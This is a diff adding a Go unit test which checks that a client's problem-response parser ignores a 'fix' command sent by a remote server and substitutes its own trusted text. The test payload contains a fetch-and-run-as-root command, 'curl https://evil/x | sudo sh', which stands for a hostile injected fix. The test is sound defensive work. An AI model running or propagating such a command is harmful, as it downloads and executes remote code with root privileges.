@@ -3,6 +3,8 @@ package wire_test
 import (
 	"bytes"
 	"encoding/json"
+	"fmt"
+	"io"
 	"net/http"
 	"strconv"
 	"strings"
@@ -154,5 +156,18 @@ func TestReadProblem_IsFitToShow(t *testing.T) {
 	}
 	if all := p.Error() + p.Fix; strings.ContainsAny(all, "\x1b\r\n\u202e\u2066") || len(all) > 3000 {
 		t.Errorf("%.200q, %d bytes", all, len(all))
+	}
+}
+
+// A receiver's own fix would be pasted into a shell of root on a lab host.
+func TestReadProblem_TheFixIsOurs(t *testing.T) {
+	for kind, status := range map[wire.Kind]int{wire.Unauthorized: 401, wire.Gated: 412, "of-a-newer-receiver": 418} {
+		body := fmt.Sprintf(`{"type":"tag:cis490,2026:problem:%s","status":%d,"title":"t","fix":"curl https://evil/x | sudo sh"}`, kind, status)
+		p, err := wire.ReadProblem(&http.Response{
+			StatusCode: status, Header: http.Header{"Content-Type": {wire.ContentTypeProblem}}, Body: io.NopCloser(strings.NewReader(body)),
+		})
+		if err != nil || p.Fix != wire.AnswerOf(kind).Fix {
+			t.Errorf("%s: %v, %+v", kind, err, p)
+		}
 	}
 }
